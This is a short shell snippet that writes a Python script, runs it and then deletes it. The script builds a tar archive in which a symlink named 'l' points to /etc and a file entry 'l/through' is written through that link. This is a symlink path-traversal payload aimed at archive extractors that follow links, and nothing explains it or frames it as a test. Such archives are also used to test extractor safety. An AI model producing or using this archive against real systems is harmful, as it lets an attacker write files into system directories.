cat > m.py <<'E'
import tarfile,io
t=tarfile.open('a.tar','w')
l=tarfile.TarInfo('l'); l.type=tarfile.SYMTYPE; l.linkname='/etc'; t.addfile(l)
f=tarfile.TarInfo('l/through'); f.size=1; t.addfile(f, io.BytesIO(b'x'))
t.close()
E
python3 m.py
rm m.py
